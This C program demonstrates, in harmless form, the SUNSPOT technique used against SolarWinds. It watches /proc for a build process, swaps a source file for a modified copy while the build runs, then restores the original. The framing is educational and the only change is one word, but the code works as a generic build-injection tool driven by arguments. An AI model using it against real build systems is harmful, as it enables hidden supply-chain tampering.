/* SPDX-License-Identifier: Apache-2.0 */
/*
 * swapper.c BUILD FILE WORD OTHER -- what SUNSPOT did to SolarWinds' build, made harmless: the
 * change is one printed word for another.
 *
 * SUNSPOT (CrowdStrike, 11 January 2021) looked through the running processes for MsBuild.exe. When
 * one built the right project, it kept a copy of one source file (.bk), wrote its own (.tmp), moved
 * that over the original, waited for the build to end, and moved the copy back. This does the same,
 * in that order, to a file of the demonstration alone. It ends by itself after ten seconds.
 */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { LOOKS = 5000, TEXT = 4096 };

static size_t read_all(const char *path, char *text, size_t room)
{
    FILE *f = fopen(path, "r");
    size_t n = f == NULL ? 0 : fread(text, 1, room - 1, f);
    if (f != NULL) {
        fclose(f);
    }
    text[n] = 0;
    return n;
}

/* 1 when all of it is on the disk, else 0. */
static int write_all(const char *path, const char *text, size_t n)
{
    FILE *f = fopen(path, "w");
    if (f == NULL) {
        return 0;
    }
    int whole = fwrite(text, 1, n, f) == n;
    return fclose(f) == 0 && whole;
}

static int runs(const char *pid, const char *build)
{
    char path[300], line[TEXT];
    snprintf(path, sizeof path, "/proc/%.250s/cmdline", pid);
    size_t n = read_all(path, line, sizeof line);
    for (size_t i = 0; i < n; i += strlen(line + i) + 1) {
        if (strcmp(line + i, build) == 0) {
            return 1;
        }
    }
    return 0;
}

/* The pid of the build: started after us, so a higher number. */
static long find(const char *build)
{
    long found = 0;
    struct dirent *e;
    DIR *d = opendir("/proc");
    while (d != NULL && found == 0 && (e = readdir(d)) != NULL) {
        long pid = strtol(e->d_name, NULL, 10);
        found = pid > getpid() && runs(e->d_name, build) ? pid : 0;
    }
    if (d != NULL) {
        closedir(d);
    }
    return found;
}

static void rest(void)
{
    nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        return 2;
    }
    char text[TEXT], other[TEXT], kept[300], made[300], pid[32];
    size_t n = read_all(argv[2], text, sizeof text), at, was = strlen(argv[3]);
    char *place = strstr(text, argv[3]);
    if (place == NULL || n + strlen(argv[4]) >= sizeof other) {
        return 2;
    }
    at = (size_t)(place - text);
    int m = snprintf(other, sizeof other, "%.*s%s%s", (int)at, text, argv[4], place + was);
    snprintf(kept, sizeof kept, "%.250s.bk", argv[2]);
    snprintf(made, sizeof made, "%.250s.tmp", argv[2]);

    long build = 0;
    for (int i = 0; i < LOOKS && (build = find(argv[1])) == 0; i++) {
        rest();
    }
    if (build == 0 || !write_all(kept, text, n) || !write_all(made, other, (size_t)m) ||
        rename(made, argv[2]) != 0) {
        return 1;
    }
    snprintf(pid, sizeof pid, "%ld", build);
    for (int i = 0; i < LOOKS && runs(pid, argv[1]); i++) {
        rest();
    }
    return rename(kept, argv[2]) == 0 ? 0 : 1;
}
